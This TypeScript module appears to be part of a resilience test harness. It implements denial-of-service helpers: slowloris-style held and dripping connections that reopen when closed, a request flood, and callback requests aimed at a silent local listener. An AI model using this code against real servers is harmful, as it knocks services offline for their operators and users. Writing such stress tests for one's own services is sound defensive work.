import { type AddressInfo, connect, createServer, type Server, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Sent, statusOf, type Target } from './probe.ts';

/** An attack that continues until it is stopped. */
export interface Crowd {
  end(): Promise<void>;
}

/** Pause before a closed connection is opened again, ms. */
const AGAIN_MS = 200;

interface Raw {
  count: number;
  /** Sent at once. */
  head: string | Buffer;
  /** Sent at intervals after it. */
  drip?: { text: string; everyMs: number };
  /** The answer is never read. */
  deaf?: boolean;
}

/** Connections that send the start of a request, and then hardly anything; closed ones are opened again. */
export async function hold({ url }: Target, { count, head, drip, deaf = false }: Raw): Promise<Crowd> {
  const { hostname, port } = new URL(url);
  const open = new Set<Socket>();
  let over = false;
  const one = (begun: () => void): void => {
    const socket = connect(Number(port), hostname, () => {
      socket.write(head);
      begun();
    });
    open.add(socket);
    const drops = drip && setInterval(() => socket.writable && socket.write(drip.text), drip.everyMs);
    if (!deaf) socket.resume();
    socket.on('error', () => {});
    socket.on('close', () => {
      clearInterval(drops);
      open.delete(socket);
      begun();
      if (!over) setTimeout(() => over || one(() => {}), AGAIN_MS);
    });
  };
  await Promise.all(Array.from({ length: count }, () => new Promise<void>((begun) => one(begun))));
  return {
    end: async () => {
      over = true;
      for (const socket of open) socket.destroy();
    },
  };
}

/** The head of a request on the wire. */
export function headOf(path: string, headers: Record<string, string | number>, method = 'POST'): string {
  const lines = Object.entries({ Host: '127.0.0.1', ...headers }).map(([name, value]) => `${name}: ${value}\r\n`);
  return `${method} ${path} HTTP/1.1\r\n${lines.join('')}\r\n`;
}

/** Senders that each repeat a request as soon as it is answered. */
export async function repeat(target: Target, count: number, sent: Sent): Promise<Crowd> {
  let over = false;
  const senders = Array.from({ length: count }, async () => {
    while (!over) {
      const status = await statusOf(target, sent);
      if (status !== '200' && status !== '202') await sleep(AGAIN_MS);
    }
  });
  return {
    end: async () => {
      over = true;
      await Promise.all(senders);
    },
  };
}

/** Queues calls whose callback accepts the connection and never answers. */
export async function silentCallbacks(target: Target, count: number, { path, body = '' }: Sent): Promise<Crowd> {
  const taken = new Set<Socket>();
  const silent: Server = createServer((socket) => taken.add(socket.on('error', () => {})));
  await new Promise<void>((resolve) => silent.listen(0, '127.0.0.1', resolve));
  const { port } = silent.address() as AddressInfo;
  const headers = { 'x-callback-url': `http://127.0.0.1:${port}/` };
  const calls = Array.from({ length: count }, () => statusOf(target, { method: 'POST', path, headers, body }));
  await Promise.all(calls);
  return {
    end: async () => {
      for (const socket of taken) socket.destroy();
      silent.close();
    },
  };
}
